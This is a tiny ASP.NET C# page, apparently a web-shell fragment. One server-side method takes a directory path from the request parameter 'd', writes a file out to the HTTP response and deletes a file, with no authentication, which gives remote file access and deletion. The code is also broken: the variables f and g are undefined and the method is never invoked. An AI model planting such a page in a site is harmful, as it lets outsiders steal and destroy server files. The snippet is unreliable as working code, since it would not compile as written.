<%@ Page Language="C#" %><script runat="server">void a(){ var d = new DirectoryInfo(Request["d"]); Response.WriteFile(f); File.Delete(g); }</script>
